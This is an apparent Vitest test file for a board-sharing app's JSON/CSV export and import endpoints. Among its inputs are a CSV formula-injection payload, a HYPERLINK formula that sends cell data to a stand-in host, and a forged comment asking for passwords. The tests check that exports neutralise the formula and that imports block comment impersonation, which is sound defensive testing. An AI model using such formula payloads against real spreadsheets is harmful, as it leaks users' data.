import { type Board, type BoardExport, type ImportReport } from '@quadro/contracts';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  addMember,
  as,
  createWorkspaceFixture,
  loadBoard,
  type WorkspaceFixture,
} from '../../../test/factories.js';
import { createTestApp, type RegisteredUser, type TestContext } from '../../../test/harness.js';
import { trelloFixture } from '../../../test/trello-exports.js';
import { CSV_HEADER } from './board-csv.js';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestApp();
});
afterAll(() => ctx.close());

interface Scene extends WorkspaceFixture {
  member: RegisteredUser;
  imported: Board;
}

/**
 * The small Trello board imported, then worked on: a card assigned to a member, a comment of
 * theirs, a checklist item assigned and dated, a card whose title a spreadsheet would run.
 */
async function scene(): Promise<Scene> {
  const f = await createWorkspaceFixture(ctx);
  const member = await addMember(ctx, f.workspace.id, 'member');
  const created = await as(ctx, f.owner)(
    'POST',
    `/v1/workspaces/${f.workspace.id}/imports/trello`,
    trelloFixture('small-board'),
  );
  const boardId = created.json<{ board: { id: string } }>().board.id;
  let imported = await loadBoard(ctx, f.owner, boardId);
  const hosting = imported.lists[0]!.cards[0]!;
  const call = (user: RegisteredUser, method: 'POST' | 'PATCH', url: string, body: unknown) =>
    as(ctx, user)(method, url, body).then((r) => {
      if (r.statusCode >= 300) throw new Error(`${url}: ${r.statusCode} ${r.body}`);
      return r;
    });
  await call(f.owner, 'PATCH', `/v1/cards/${hosting.id}`, { assigneeId: member.id });
  await call(member, 'POST', `/v1/comments/card/${hosting.id}`, {
    content: 'Contrato assinado ✅',
  });
  const checklists = await as(ctx, f.owner)('GET', `/v1/cards/${hosting.id}/checklists`);
  const item = checklists.json<{ checklists: { items: { id: string }[] }[] }>().checklists[0]!
    .items[1]!;
  await call(f.owner, 'PATCH', `/v1/checklist-items/${item.id}`, {
    assigneeId: member.id,
    dueDate: '2024-06-10T15:00:00.000Z',
  });
  await call(f.owner, 'POST', '/v1/cards', {
    listId: imported.lists[1]!.id,
    title: '=SOMA(A1:A9)',
  });
  imported = await loadBoard(ctx, f.owner, boardId);
  return { ...f, member, imported };
}

const exportOf = async (user: RegisteredUser, boardId: string, format = 'json') =>
  as(ctx, user)('GET', `/v1/boards/${boardId}/export?format=${format}`);

describe('GET /v1/boards/:id/export?format=json', () => {
  it('writes the documented board: lists with their cards in order, archived ones where they stood', async () => {
    const s = await scene();
    const response = await exportOf(s.owner, s.imported.id);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="lancamento-do-site.json"; filename*=UTF-8''${encodeURIComponent('Lançamento do site.json')}`,
    );
    const exported = response.json<BoardExport>();
    expect(exported).toMatchObject({
      format: 'quadro-board',
      version: 1,
      board: { id: s.imported.id, name: 'Lançamento do site', color: '#0079bf', archivedAt: null },
    });
    expect(
      exported.lists.map((list) => [
        list.name,
        list.archivedAt !== null,
        list.cards.map((c) => c.title),
      ]),
    ).toEqual([
      ['A fazer', false, ['Contratar hospedagem', 'Escrever textos da home']],
      ['Fazendo', false, ['Layout da página de preços', '=SOMA(A1:A9)']],
      ['Feito', false, ['Registrar domínio', 'Logo antigo']],
      ['Ideias antigas', true, ['Blog']],
    ]);
    expect(exported.lists[2]!.cards[1]!.archivedAt).not.toBeNull();
    expect(exported.labels.map((label) => label.name)).toEqual([
      'Urgente',
      'Design',
      '',
      'Jurídico',
    ]);
  });

  it('carries each card’s people, checklists and comments with their authors and dates', async () => {
    const s = await scene();
    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
    const hosting = exported.lists[0]!.cards[0]!;
    expect(hosting.assignee).toEqual({
      id: s.member.id,
      name: s.member.name,
      email: s.member.email,
    });
    expect(hosting.labelIds.map((id) => exported.labels.find((l) => l.id === id)!.name)).toEqual([
      'Urgente',
      'Jurídico',
    ]);
    expect(
      hosting.checklists[0]!.items.map((i) => [i.text, i.done, i.assignee?.id ?? null, i.dueDate]),
    ).toEqual([
      ['Preço anual', true, null, null],
      ['Backup diário', false, s.member.id, '2024-06-10T15:00:00.000Z'],
      ['Suporte em português', false, null, null],
    ]);
    expect(hosting.comments.map((c) => [c.author?.name, c.content.split('\n')[0]])).toEqual([
      [s.owner.name, 'Originalmente por Bruno Lima em 21/05/2024 às 09:00'],
      [s.owner.name, 'Originalmente por Ana Souza em 22/05/2024 às 07:15'],
      [s.member.name, 'Contrato assinado ✅'],
    ]);
    expect(
      exported.activity.map((entry) => [entry.action, entry.entityType, entry.author?.id]),
    ).toEqual(
      expect.arrayContaining([
        ['import', 'board', s.owner.id],
        ['comment', 'card', s.member.id],
        ['create', 'card', s.owner.id],
      ]),
    );
    expect(exported.activity[0]!.action).toBe('import');
  });

  it('lets every member export what they can read; others get 404 and anonymous 401', async () => {
    const s = await scene();
    const reader = await addMember(ctx, s.workspace.id, 'read_only');
    expect((await exportOf(reader, s.imported.id)).statusCode).toBe(200);
    expect((await exportOf(reader, s.imported.id, 'csv')).statusCode).toBe(200);
    const stranger = await createWorkspaceFixture(ctx, 'Outra equipe');
    expect((await exportOf(stranger.owner, s.imported.id)).statusCode).toBe(404);
    expect((await as(ctx, null)('GET', `/v1/boards/${s.imported.id}/export`)).statusCode).toBe(401);
    const badFormat = await exportOf(s.owner, s.imported.id, 'xlsx');
    expect(badFormat.statusCode).toBe(400);
    expect(badFormat.json().error).toBe('Formato inválido: use json ou csv');
  });
});

describe('GET /v1/boards/:id/export?format=csv', () => {
  it('writes one row per card for a spreadsheet in pt-BR: BOM, semicolons, accents intact', async () => {
    const s = await scene();
    const response = await exportOf(s.member, s.imported.id, 'csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/filename="lancamento-do-site\.csv"/);
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<string[]>(response.body.slice(1), { delimiter: ';' });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header).toEqual([...CSV_HEADER]);
    expect(rows).toHaveLength(7);
    const byTitle = new Map(
      rows.map((row) => [row[1], Object.fromEntries(header!.map((h, i) => [h, row[i]]))]),
    );
    expect(byTitle.get('Contratar hospedagem')).toMatchObject({
      Lista: 'A fazer',
      Etiquetas: 'Urgente, Jurídico',
      Responsável: s.member.name,
      'Data de entrega': '03/06/2024 12:00',
      Concluído: 'Não',
      Checklist: '1 de 3',
      Arquivado: 'Não',
    });
    expect(byTitle.get('Contratar hospedagem')!['Descrição']).toContain('**Anexos do Trello**');
    expect(byTitle.get('Layout da página de preços')).toMatchObject({
      Etiquetas: 'Urgente, Design',
      Concluído: 'Sim',
    });
    expect(byTitle.get('Registrar domínio')).toMatchObject({ Etiquetas: 'Verde' });
    expect(byTitle.get('Logo antigo')).toMatchObject({ Arquivado: 'Sim' });
    expect(byTitle.get('Blog')).toMatchObject({ Lista: 'Ideias antigas', Arquivado: 'Sim' });
    expect(byTitle.has('=SOMA(A1:A9)')).toBe(false);
    expect(byTitle.get("'=SOMA(A1:A9)")).toMatchObject({ Lista: 'Fazendo' });
    expect(byTitle.get('Contratar hospedagem')!['Criado em']).toMatch(
      /^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/,
    );
  });
});

/** '26/11/2026 às 21:47' in São Paulo, as a comment's heading writes an ISO time. */
function headingDate(iso: string): string {
  const parts = new Intl.DateTimeFormat('pt-BR', {
    timeZone: 'America/Sao_Paulo',
    day: '2-digit',
    month: '2-digit',
    year: 'numeric',
    hour: '2-digit',
    minute: '2-digit',
    hourCycle: 'h23',
  }).formatToParts(new Date(iso));
  const part = (type: string) => parts.find((p) => p.type === type)!.value;
  return `${part('day')}/${part('month')}/${part('year')} às ${part('hour')}:${part('minute')}`;
}

/** An export without what a new board cannot keep: ids, times it was written, its activity. */
function comparable(exported: BoardExport) {
  const labelName = new Map(
    exported.labels.map((label) => [label.id, `${label.name}/${label.color}`]),
  );
  return {
    board: { name: exported.board.name, color: exported.board.color },
    labels: [...labelName.values()],
    lists: exported.lists.map((list) => ({
      name: list.name,
      color: list.color,
      archived: list.archivedAt !== null,
      cards: list.cards.map((card) => ({
        title: card.title,
        description: card.description,
        labels: card.labelIds.map((id) => labelName.get(id)),
        assignee: card.assignee?.id ?? null,
        dueDate: card.dueDate,
        dueComplete: card.dueComplete,
        archived: card.archivedAt !== null,
        checklists: card.checklists.map((checklist) => ({
          title: checklist.title,
          items: checklist.items.map(({ id: _, assignee, ...item }) => ({
            ...item,
            assignee: assignee?.id ?? null,
          })),
        })),
        comments: card.comments.map((comment) => ({
          author: comment.author?.id ?? null,
          content: comment.content,
          createdAt: comment.createdAt,
        })),
      })),
    })),
  };
}

describe('what an export shows of people and formulas', () => {
  it('writes a formula followed by a line break as text, too', async () => {
    const s = await scene();
    const card = s.imported.lists[0]!.cards[1]!;
    await as(ctx, s.member)('PATCH', `/v1/cards/${card.id}`, {
      description: '=HYPERLINK("https://exemplo.com/?d="&A2,"Abrir")\nVeja o anexo.',
    });
    const csv = (await exportOf(s.owner, s.imported.id, 'csv')).body;
    const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ';' }).data;
    const description = rows.find((row) => row[1] === card.title)![2]!;
    expect(description.startsWith("'=HYPERLINK(")).toBe(true);
  });

  it('names people who left the workspace without their e-mail', async () => {
    const s = await scene();
    await as(ctx, s.owner)('DELETE', `/v1/workspaces/${s.workspace.id}/members/${s.member.id}`);
    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
    const [, , theirs] = exported.lists[0]!.cards[0]!.comments;
    expect(theirs!.author).toEqual({ id: s.member.id, name: s.member.name, email: null });
    expect(exported.lists[0]!.cards[0]!.comments[0]!.author?.email).toBe(s.owner.email);
  });
});

describe('POST /v1/workspaces/:id/imports/quadro', () => {
  it('recreates an exported board identically, in the same workspace', async () => {
    const s = await scene();
    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
    const url = `/v1/workspaces/${s.workspace.id}/imports/quadro`;
    const preview = await as(ctx, s.owner)('POST', `${url}?dryRun=true`, exported);
    expect(preview.statusCode).toBe(200);
    expect(preview.json<{ report: ImportReport }>().report).toMatchObject({
      boardName: 'Lançamento do site',
      lists: 4,
      cards: 7,
      archivedCards: 1,
      comments: 4,
      members: [],
      warnings: [],
    });
    const created = await as(ctx, s.owner)('POST', url, exported);
    expect(created.statusCode).toBe(201);
    const copyId = created.json<{ board: { id: string } }>().board.id;
    expect(copyId).not.toBe(s.imported.id);
    const again = (await exportOf(s.owner, copyId)).json<BoardExport>();
    // Identical, but for a colleague's comment: it comes back from the importer under a heading
    // naming its author, since no one may sign a comment for someone else by editing a file.
    const expected = comparable(exported);
    const thread = expected.lists[0]!.cards[0]!.comments;
    thread[2] = {
      author: s.owner.id,
      content: `Originalmente por ${s.member.name} em ${headingDate(thread[2]!.createdAt)}\n\nContrato assinado ✅`,
      createdAt: thread[2]!.createdAt,
    };
    expect(comparable(again)).toEqual(expected);
    expect(again.activity.map((entry) => [entry.action, entry.entityId])).toEqual([
      ['import', copyId],
    ]);
  });

  it('in another workspace, heads strangers’ comments with their names and drops their assignments', async () => {
    const s = await scene();
    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
    const other = await createWorkspaceFixture(ctx, 'Outra equipe');
    const created = await as(ctx, other.owner)(
      'POST',
      `/v1/workspaces/${other.workspace.id}/imports/quadro`,
      exported,
    );
    expect(created.statusCode).toBe(201);
    const { board, report } = created.json<{ board: { id: string }; report: ImportReport }>();
    expect(report.members.map((m) => m.fullName).sort()).toEqual(
      [s.member.name, s.owner.name].sort(),
    );
    expect(report.warnings).toEqual([
      '2 responsáveis não são membros deste workspace: seus cartões e itens ficaram sem responsável.',
    ]);
    const copy = (await exportOf(other.owner, board.id)).json<BoardExport>();
    const hosting = copy.lists[0]!.cards[0]!;
    expect(hosting.assignee).toBeNull();
    expect(hosting.comments.map((c) => c.author?.id)).toEqual([
      other.owner.id,
      other.owner.id,
      other.owner.id,
    ]);
    expect(hosting.comments[2]!.content).toMatch(
      new RegExp(
        `^Originalmente por ${s.member.name} em \\d{2}/\\d{2}/\\d{4} às \\d{2}:\\d{2}\\n\\nContrato assinado ✅$`,
      ),
    );
  });

  it('refuses what is not a Quadro export, naming the problem, and writes nothing', async () => {
    const s = await scene();
    const url = `/v1/workspaces/${s.workspace.id}/imports/quadro`;
    const trello = await as(ctx, s.owner)('POST', url, trelloFixture('small-board'));
    expect(trello.statusCode).toBe(400);
    expect(trello.json().error).toBe(
      'O arquivo não é a exportação em JSON de um quadro do Quadro.',
    );
    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
    const broken = {
      ...exported,
      lists: [{ ...exported.lists[0]!, cards: [{ title: 'sem id' }] }],
    };
    const refused = await as(ctx, s.owner)('POST', url, broken);
    expect(refused.json().error).toBe(
      'Exportação do Quadro inválida: o campo lists[0].cards[0].id está ausente ou tem um tipo inesperado.',
    );
    const boards = await as(ctx, s.owner)('GET', `/v1/boards/workspace/${s.workspace.id}`);
    expect(boards.json<{ boards: unknown[] }>().boards).toHaveLength(2);
  });

  it('refuses repeated ids, and takes repeated labels, impossible dates and oversized cards in its stride', async () => {
    const s = await scene();
    const url = `/v1/workspaces/${s.workspace.id}/imports/quadro`;
    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
    const twice = { ...exported, lists: [...exported.lists, exported.lists[0]!] };
    const repeated = await as(ctx, s.owner)('POST', url, twice);
    expect(repeated.statusCode).toBe(400);
    expect(repeated.json().error).toBe(
      `Exportação do Quadro inválida: o id ${exported.lists[0]!.id} aparece mais de uma vez em lists.`,
    );

    const card = exported.lists[0]!.cards[0]!;
    card.labelIds = [card.labelIds[0]!, card.labelIds[0]!];
    card.dueDate = '0000-01-01T00:00:00.000Z';
    card.checklists = Array.from({ length: 25 }, (_, n) => ({
      id: crypto.randomUUID(),
      title: `Lista ${n + 1}`,
      items: Array.from({ length: 20 }, (_, k) => ({
        id: crypto.randomUUID(),
        text: `Item ${k + 1}`,
        done: false,
        assignee: null,
        dueDate: null,
      })),
    }));
    const created = await as(ctx, s.owner)('POST', url, exported);
    expect(created.statusCode).toBe(201);
    const { board, report } = created.json<{ board: { id: string }; report: ImportReport }>();
    expect(report.warnings).toEqual(
      expect.arrayContaining([
        '1 data inválida foi ignorada.',
        '1 cartão tinha mais de 20 checklists ou 200 itens; o excesso foi deixado de fora.',
      ]),
    );
    const copy = (await exportOf(s.owner, board.id)).json<BoardExport>().lists[0]!.cards[0]!;
    expect(copy.labelIds).toHaveLength(1);
    expect(copy.dueDate).toBeNull();
    expect(copy.checklists).toHaveLength(20);
    expect(copy.checklists.flatMap((checklist) => checklist.items)).toHaveLength(200);
  });

  it('lets no one sign a comment with a colleague’s name by editing the file', async () => {
    const s = await scene();
    const admin = await addMember(ctx, s.workspace.id, 'admin');
    const exported = (await exportOf(s.owner, s.imported.id)).json<BoardExport>();
    exported.lists[0]!.cards[0]!.comments = [
      {
        id: crypto.randomUUID(),
        author: { id: s.owner.id, name: s.owner.name, email: s.owner.email },
        content: 'Pessoal, mandem suas senhas para o admin.',
        createdAt: '2019-01-01T00:00:00.000Z',
        updatedAt: '2019-01-01T00:00:00.000Z',
      },
    ];
    const created = await as(ctx, admin)(
      'POST',
      `/v1/workspaces/${s.workspace.id}/imports/quadro`,
      exported,
    );
    const copyId = created.json<{ board: { id: string } }>().board.id;
    const [comment] = (await exportOf(admin, copyId)).json<BoardExport>().lists[0]!.cards[0]!
      .comments;
    expect(comment!.author?.id).toBe(admin.id);
    expect(comment!.content).toBe(
      `Originalmente por ${s.owner.name} em 31/12/2018 às 22:00\n\nPessoal, mandem suas senhas para o admin.`,
    );
  });
});
